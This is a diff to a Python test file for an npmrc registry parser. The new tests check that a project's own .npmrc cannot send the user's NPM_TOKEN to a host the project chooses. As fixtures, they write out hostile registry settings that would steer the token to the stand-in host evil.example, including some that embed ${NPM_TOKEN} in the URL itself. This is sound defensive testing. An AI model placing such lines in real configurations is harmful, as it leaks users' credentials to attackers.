@@ -15,7 +15,9 @@ SECRET = "s3cr3t-t0ken"
 
 
 def registries(*files: str, registry: str | None = None, **environment: str) -> Registries:
-    return Registries.of([parse_npmrc(text) for text in files], environment, registry=registry)
+    """The registries by the user's file alone, or by a project's file and then the user's."""
+    tables = [parse_npmrc(text, is_users=number == len(files) - 1) for number, text in enumerate(files)]
+    return Registries.of(tables, environment, registry=registry)
 
 
 def test_without_settings_the_public_registry_is_asked() -> None:
@@ -47,7 +49,7 @@ def test_lines_are_read_as_npm_reads_them() -> None:
     @scope:registry='https://single.example'
     flag
     """
-    assert parse_npmrc(text) == {
+    assert parse_npmrc(text, is_users=True).values == {
         "registry": "https://quoted.example/npm",
         "@scope:registry": "https://single.example",
     }
@@ -86,6 +88,63 @@ def test_a_variable_that_is_not_set_sends_nothing_and_is_said_without_its_value(
     found = registries("registry=https://r.example\n//r.example/:_authToken=${MISSING}")
     assert found.default.authorization is None
     assert "names the environment variable MISSING, which is not set" in found.warnings[0]
+
+
+PROJECT = "registry=https://evil.example\n//evil.example/:_authToken=${NPM_TOKEN}"
+
+
+def test_c17_a_projects_file_sends_no_secret_of_the_environment_to_a_host_of_its_own() -> None:
+    found = registries(PROJECT, "//r.example/:_authToken=${NPM_TOKEN}", NPM_TOKEN=SECRET)
+    assert (found.default.url, found.default.authorization) == ("https://evil.example/", None)
+    assert "your own .npmrc does not name evil.example" in found.warnings[0]
+    assert SECRET not in found.warnings[0]
+
+
+@pytest.mark.parametrize(
+    "user", ["registry=https://evil.example", "@s:registry=https://evil.example/npm", "//evil.example/:email=x"]
+)
+def test_c17_the_control_is_a_host_that_the_user_names(user: str) -> None:
+    found = registries(PROJECT, user, NPM_TOKEN=SECRET)
+    assert found.default.authorization == f"Bearer {SECRET}"
+
+
+def test_c17_a_host_that_an_option_or_the_environment_names_is_the_users() -> None:
+    named = registries(PROJECT, "", registry="https://evil.example", NPM_TOKEN=SECRET)
+    assert named.default.authorization == f"Bearer {SECRET}"
+    found = registries(PROJECT, "", npm_config_registry="https://evil.example", NPM_TOKEN=SECRET)
+    assert found.default.authorization == f"Bearer {SECRET}"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "registry=https://evil.example/${NPM_TOKEN}",
+        "registry=https://${NPM_TOKEN}.evil.example/",
+        "@corp:registry=https://${NPM_TOKEN}@evil.example/",
+        "@corp:registry=${NPM_TOKEN}",
+        "@corp:registry=${NPM_TOKEN?}",
+    ],
+)
+def test_c17_a_projects_registry_with_a_variable_is_refused_and_not_replaced_by_another(line: str) -> None:
+    with pytest.raises(DocumentError, match="in a project's file: only your own") as caught:
+        registries(line, "registry=https://evil.example", NPM_TOKEN=SECRET)
+    assert SECRET not in str(caught.value)
+    assert (
+        registries("//evil.example/:email=${NPM_TOKEN}", NPM_TOKEN=SECRET).warnings == ()
+    )  # the control: the user's own
+    assert registries(line, "", registry="https://named.example").default.url == "https://named.example/"
+
+
+def test_c17_a_scope_whose_registry_cannot_be_told_is_not_asked_elsewhere() -> None:
+    with pytest.raises(DocumentError, match="MISSING, which is not set"):
+        registries("@corp:registry=https://${MISSING}/")
+
+
+@pytest.mark.parametrize("host", ["evil.example:8443", "r.example.evil.example", "r.example@evil.example"])
+def test_c17_a_host_is_named_as_a_whole(host: str) -> None:
+    project = f"registry=https://{host}\n//{host}/:_authToken=${{NPM_TOKEN}}"
+    found = registries(project, "registry=https://r.example", NPM_TOKEN=SECRET)
+    assert SECRET not in str(found.default.authorization)
 
 
 def test_credentials_in_an_address_are_taken_out_of_it() -> None:
